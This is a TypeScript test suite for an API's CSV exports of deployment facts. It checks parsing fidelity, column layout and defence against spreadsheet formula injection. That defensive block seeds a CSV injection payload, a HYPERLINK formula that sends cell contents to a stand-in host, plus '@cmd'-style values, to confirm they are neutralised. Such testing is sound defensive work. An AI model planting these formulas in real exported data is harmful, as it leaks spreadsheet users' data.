// Every CSV route read back with a real CSV parser (csv-parse, as pandas or Python's csv would read it).
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { parse as parseYaml } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../src/app.js';
import { buildDatabase } from '../src/db/build.js';
import { PROJECT_ROOT } from '../src/lib/paths.js';
import { neutralise } from '../src/plugins/formats.js';
import { copySeed, tempDir } from './helpers/db.js';
import { useApp } from './helpers/app.js';

const t = useApp();
const spec = parseYaml(readFileSync(join(PROJECT_ROOT, 'openapi.yaml'), 'utf8')) as { paths: Record<string, { get: { parameters?: Array<{ name: string }>; responses: Record<string, { content?: Record<string, unknown> }> } }> };
const csvPaths = Object.entries(spec.paths).filter(([, ops]) => ops.get.responses['200']?.content?.['text/csv']).map(([path]) => path);

const readCsv = (body: string) => parse(body, { columns: true, skip_empty_lines: false }) as Array<Record<string, string>>;

/** A URL for every CSV route: list routes with the largest page, item routes with a real id, search with words that hit. */
async function csvUrls(): Promise<string[]> {
  const urls: string[] = [];
  for (const path of csvPaths) {
    const params = new Set((spec.paths[path]!.get.parameters ?? []).map((p) => p.name));
    if (path.includes('{id}')) {
      const list = path.slice(0, path.indexOf('/{id}'));
      for (const row of (await t.get(`${list}?limit=3`)).json.data) urls.push(`${path.replace('{id}', row.id)}?format=csv`);
    } else if (params.has('q') && path === '/v1/search') {
      for (const q of ['ice', 'police', 'milan', 'red%20zones']) urls.push(`${path}?q=${q}&format=csv&limit=500`);
    } else {
      urls.push(`${path}?format=csv${params.has('limit') ? '&limit=500' : ''}`);
    }
  }
  return urls;
}

describe('CSV that parsers read right', () => {
  it('covers every route that serves text/csv', () => {
    expect(csvPaths).toEqual(expect.arrayContaining(['/v1/search', '/v1/timeline', '/v1/stats/deployments', '/v1/statements', '/v1/claims/{id}']));
    expect(csvPaths.length).toBeGreaterThanOrEqual(23);
  });

  it('a parser reads exactly X-Total-Count rows (or the page size) on every CSV route, with the JSON values', async () => {
    for (const url of await csvUrls()) {
      const r = await t.get(url);
      expect(r.status, url).toBe(200);
      expect(r.headers['content-type'], url).toMatch(/^text\/csv/);
      const rows = readCsv(r.body);
      const json = (await t.get(url.replace('format=csv', 'format=json'))).json;
      if (url.startsWith('/v1/stats/')) {
        expect(rows.length, url).toBe(json.data.by_organization.length + json.data.stated_totals.length + 1);
        expect(rows.at(-1)).toMatchObject({ section: 'total', 'personnel.value': String(json.data.total.personnel.value) });
      } else if (url.includes('/annotations')) {
        expect(rows.map((row) => [Number(row.start), row['row.id']]), url).toEqual(json.data.map((a: { start: number; row: { id: string } }) => [a.start, a.row.id]));
      } else if (r.headers['x-total-count'] !== undefined) {
        expect(rows.length, url).toBe(Math.min(Number(r.headers['x-total-count']), 500));
        expect(rows.map((row) => row.id), url).toEqual(json.data.map((row: { id: string }) => row.id));
      } else {
        expect(rows.length, url).toBe(1);
        expect(rows[0]!.id).toBe(json.data.id);
      }
    }
  });

  it('keeps line breaks inside quoted cells: search snippets read back whole (issue #10 reproduction)', async () => {
    const r = await t.get('/v1/search?q=ice&format=csv&limit=500');
    const rows = readCsv(r.body);
    expect(rows.length).toBe(Number(r.headers['x-total-count']));
    const json = (await t.get('/v1/search?q=ice&limit=500')).json.data as Array<{ snippet: string }>;
    expect(json.some((hit) => hit.snippet.includes('\n'))).toBe(true);
    expect(rows.map((row) => row.snippet)).toEqual(json.map((hit) => hit.snippet));
    expect(r.body).toMatch(/\r\n$/);
    expect(r.body.replace(/"(?:[^"]|"")*"/g, '').split('\r\n').every((line) => !line.includes('\n'))).toBe(true);
  });

  it('gives every event figure a typed column of its own, one per metric of the dataset, with the JSON values', async () => {
    const events = (await t.get('/v1/events?limit=500')).json.data as Array<{ id: string; figures: Array<{ metric: string; value: number; qualifier: string | null }> }>;
    const metrics = [...new Set(events.flatMap((e) => e.figures.map((f) => f.metric)))].sort();
    expect(metrics.length).toBeGreaterThan(1);
    for (const url of ['/v1/events?format=csv&limit=500', '/v1/events?format=csv&limit=1&offset=3']) {
      const body = (await t.get(url)).body;
      const header = body.slice(0, body.indexOf('\r\n')).split(',');
      // The same header on every page: the metrics of the dataset, not of the page.
      expect(header.filter((c) => c.startsWith('figures['))).toEqual(metrics.flatMap((m) => [`figures[metric=${m}].value`, `figures[metric=${m}].qualifier`]));
      for (const row of readCsv(body)) {
        const figures = events.find((e) => e.id === row.id)!.figures;
        for (const m of metrics) {
          const figure = figures.find((f) => f.metric === m);
          expect(row[`figures[metric=${m}].value`], `${row.id} ${m}`).toBe(figure ? String(figure.value) : '');
          expect(row[`figures[metric=${m}].qualifier`]).toBe(figure?.qualifier ?? '');
        }
      }
    }
    const narrowed = (await t.get('/v1/events?format=csv&fields=name')).body;
    expect(narrowed.slice(0, narrowed.indexOf('\r\n'))).not.toContain('figures[');
  });

  it('serves /v1/stats/deployments as CSV: one row per force, per stated total, and the total', async () => {
    const rows = readCsv((await t.get('/v1/stats/deployments?format=csv')).body);
    expect(rows.filter((row) => row.section === 'stated_total')).toEqual([expect.objectContaining({
      deployment_id: 'law-enforcement-deployment', 'personnel.value': '6000', 'sum_of_parts.value': '5800', difference: '200',
    })]);
    expect(rows.find((row) => row.organization_id === 'carabinieri' && row.section === 'organization')).toMatchObject({ name: 'Carabinieri', 'personnel.value': '2000' });
    // Every row says whether what it counts is inferred, the event's total too.
    expect(rows.find((row) => row.section === 'total')).toMatchObject({ 'personnel.value': '6000', derived: 'false' });
    for (const row of rows) expect(['true', 'false'], JSON.stringify(row)).toContain(row.derived);
  });
});

describe('CSV cells a spreadsheet would run as formulas are neutralised', () => {
  it('prefixes text starting with = + - @ tab or CR with a quote; numbers stay numbers', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutralise(text)).toBe(`'${text}`);
    for (const text of ['Carabinieri', "'quoted", ' =x', '1-2']) expect(neutralise(text)).toBe(text);
  });

  let app: Awaited<ReturnType<typeof buildApp>>;
  const formula = '=HYPERLINK("http://x/?"&A1,"click")';
  beforeAll(async () => {
    const seed = copySeed();
    const file = join(seed, 'facts', 'organizations.yaml');
    // A machine row: the build requires the names of reviewed rows in their quotes, and these are no article's words.
    writeFileSync(file, readFileSync(file, 'utf8').replace('name: Carabinieri\n', `name: '${formula}'\n  review: machine\n`).replace('aliases: [Carabinieri military police]', "aliases: ['@cmd', '-2+3']"));
    const dbPath = join(tempDir(), 'facts.db');
    buildDatabase({ dbPath, seedDir: seed });
    app = await buildApp({ dbPath, limits: { rateLimitMax: 0, maxEventLoopDelayMs: 0 } } as Parameters<typeof buildApp>[0]);
  });
  afterAll(async () => { await app?.close(); });

  it('in list, item and search CSV, while JSON keeps the value as stated', async () => {
    const list = readCsv((await app.inject({ url: '/v1/organizations?format=csv&limit=500' })).body).find((row) => row.id === 'carabinieri')!;
    expect(list.name).toBe(`'${formula}`);
    expect(list.aliases).toBe("'@cmd | -2+3");
    const item = readCsv((await app.inject({ url: '/v1/organizations/carabinieri?format=csv' })).body)[0]!;
    expect(item.name).toBe(`'${formula}`);
    const hit = readCsv((await app.inject({ url: '/v1/search?q=hyperlink&format=csv' })).body).find((row) => row.id === 'carabinieri')!;
    expect(hit.title).toBe(`'${formula}`);
    expect(JSON.parse((await app.inject({ url: '/v1/organizations/carabinieri' })).body).data.name).toBe(formula);
  });
});
